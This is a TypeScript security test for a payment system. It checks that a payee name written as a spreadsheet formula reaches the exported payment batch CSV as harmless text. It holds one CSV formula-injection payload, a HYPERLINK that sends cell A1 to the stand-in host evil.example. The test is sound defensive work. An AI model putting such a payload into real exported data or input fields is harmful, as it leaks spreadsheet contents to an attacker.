import { applicant, createScheme, submitted } from '../support/fixtures';
import { verifiedAccount } from '../support/payments';
import { TestApp } from '../support/test-app';

/** Follows a job resource until it has finished. */
async function finished(app: TestApp, token: string, jobId: string): Promise<any> {
  const deadline = Date.now() + 60_000;
  for (;;) {
    const res = await app.get(`/api/v1/jobs/${jobId}`, { token });
    if (res.body.state === 'completed' || res.body.state === 'failed' || Date.now() > deadline) return res.body;
    await new Promise((r) => setTimeout(r, 100));
  }
}

const HOLDER = '=HYPERLINK("https://evil.example/?leak="&A1,"Klik")';

describe('security finding: CSV formula injection', () => {
  let app: TestApp;
  let officer: string;
  const finance: string[] = [];

  beforeAll(async () => {
    app = await TestApp.start();
    officer = await app.token('officer', { sub: 'officer-csv' });
    for (const sub of ['finance-csv-a', 'finance-csv-b']) finance.push(await app.token('finance', { sub }));
  });
  afterAll(() => app.close());

  it('CSV formula injection: a bank-account holder name written as a formula reaches the payment batch CSV as text', async () => {
    const scheme = await createScheme(app, officer, { directDeterminationUpTo: '500.00' });
    const board = await applicant(app, officer);
    const a = await submitted(app, board.token, scheme, { requestedAmount: '400.00' });
    await app.post(`/api/v1/applications/${a.id}/completeness`, undefined, { token: officer });
    await app.post(`/api/v1/applications/${a.id}/eligibility`, { eligible: true }, { token: officer });
    const run = await app.post(`/api/v1/schemes/${scheme.id}/windows/${scheme.windows[0].id}/decisions`, undefined, { token: officer });
    expect((await finished(app, officer, run.body.id)).state).toBe('completed');

    await verifiedAccount(app, board.org.id, officer, finance[0], HOLDER);
    expect((await app.post('/api/v1/payment-instructions/generation', { dueUntil: '2030-12-31' }, { token: finance[0] })).status).toBe(200);
    const built = await app.post('/api/v1/payment-batches', { dueUntil: '2030-12-31' }, { token: finance[0] });
    expect(built.status).toBe(201);
    expect((await app.post(`/api/v1/payment-batches/${built.body.id}/approvals`, undefined, { token: finance[1] })).body.status).toBe('approved');

    const res = await fetch(`${app.url}/api/v1/payment-batches/${built.body.id}/csv-file`, { headers: { authorization: `Bearer ${finance[0]}` } });
    expect(res.status).toBe(200);
    const lines = (await res.text()).trim().split('\r\n');
    expect(lines).toHaveLength(2);
    // The CSV shows the payee name as the SEPA file carries it (issue 15: transliterated to the
    // EPC character set, leading punctuation dropped), so the formula's = never reaches it; and
    // every cell goes through writeCsv, which escapes what a spreadsheet would run anyway
    // (src/common/csv/csv.spec.ts, and the ranking CSV's test).
    expect(lines[1]).toContain(`HYPERLINK('https://evil.example/?leak '+A1,'Klik')`);
    for (const cell of lines[1].split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^\s*[=+@\t\r-]/);
  });
});
